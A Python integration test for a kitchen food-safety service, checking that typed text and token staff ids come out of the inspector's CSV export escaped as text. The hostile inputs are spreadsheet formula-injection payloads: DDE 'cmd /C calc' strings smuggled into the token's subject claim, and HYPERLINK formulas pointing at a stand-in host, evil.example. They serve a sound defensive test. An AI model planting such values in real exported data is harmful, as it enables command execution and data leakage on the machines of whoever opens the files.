"""Every text that kitchen staff or a coordinator type, and the staff id from the token, comes out
of the inspector's CSV as text: a spreadsheet never runs it as a formula."""

import csv
import datetime as dt
import io

from buurtwerk_shared.clock import BRUSSELS
from buurtwerk_shared.web.csv_files import FORMULA_TRIGGERS
from tests.integration.haccp.conftest import CENTRE, KITCHEN, Meals
from tests.support.tokens import bearer

# A staff id is whatever the identity provider puts in `sub`.
HOSTILE_COOK = bearer("kitchen_staff", [CENTRE], sub="=cmd|' /C calc'!A0")
HOSTILE_COORDINATOR = bearer("centre_coordinator", [CENTRE], sub="@SUM(1+1)*cmd|' /C calc'!A0")


def hostile(field: str) -> str:
    """A formula that names the field it was typed into, so a miss says where."""
    return f'=HYPERLINK("http://evil.example/?{field}","{field}")'


def unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would read as a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]


async def test_every_typed_text_reaches_the_inspector_export_as_text(meals: Meals) -> None:
    today = dt.datetime.now(BRUSSELS).date()
    fridge = await meals.define(
        {"kind": "fridge", "label": hostile("check label"),
         "schedule": {"type": "times_of_day", "times": ["08:00"]}},
    )  # fmt: skip
    deviation = await meals.record(fridge["check_id"], {"value": 11}, headers=HOSTILE_COOK)
    await meals.call(
        "POST",
        f"/haccp/records/{deviation['record_id']}/corrective-actions",
        {"action": hostile("corrective action")},
        headers=HOSTILE_COOK,
    )
    cleaning = await meals.define(
        {"kind": "cleaning", "label": "+Schoonmaak", "schedule": {"type": "on_event"},
         "limits": {"type": "checklist", "items": [hostile("checklist item"), "-Vloer"]}},
    )  # fmt: skip
    await meals.record(
        cleaning["check_id"], {"items": {hostile("checklist item"): True, "-Vloer": False}}
    )
    goods = await meals.define(
        {"kind": "goods_receipt", "label": "Ontvangst", "schedule": {"type": "on_event"}}
    )
    await meals.call(
        "POST",
        f"/haccp/kitchens/{KITCHEN}/deliveries",
        {"supplier": hostile("supplier"), "product": hostile("product"), "lot": hostile("lot"),
         "check_id": goods["check_id"], "temperature": 3},
        headers=HOSTILE_COOK,
    )  # fmt: skip
    await meals.call(
        "POST",
        f"/haccp/kitchens/{KITCHEN}/deliveries",
        {"supplier": "@Leverancier", "product": "\tBrood", "lot": "-L1"},
    )
    cooling = await meals.define(
        {"kind": "cooling", "label": "-Afkoelen", "schedule": {"type": "on_event"}}
    )
    await meals.call(
        "POST",
        f"/haccp/checks/{cooling['check_id']}/processes",
        {"product": hostile("process product"), "start_value": 70},
    )
    freezer = await meals.define(
        {"kind": "freezer", "label": "Diepvries", "schedule": {"type": "on_event"}}
    )
    await meals.record(freezer["check_id"], {"value": -19.5})

    response = await meals.client.get(
        f"/haccp/kitchens/{KITCHEN}/export.csv",
        params={"from": today.isoformat(), "to": today.isoformat()},
        headers=HOSTILE_COORDINATOR,
    )
    assert response.status_code == 200, response.text
    text = response.text
    assert unsafe_cells(text) == []
    cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    for field in ("check label", "supplier", "product", "lot", "process product"):
        assert "'" + hostile(field) in cells, field
    for field in ("checklist item", "corrective action"):
        assert any(hostile(field) in c for c in cells), field
    assert {"'@Leverancier", "'\tBrood", "'-L1", "'+Schoonmaak", "'-Afkoelen"} <= cells
    assert "'=cmd|' /C calc'!A0" in cells, "the staff id from the token"
    # A reading the service wrote is shown as it was (with a minus sign, not a hyphen).
    assert "−19,5" in cells
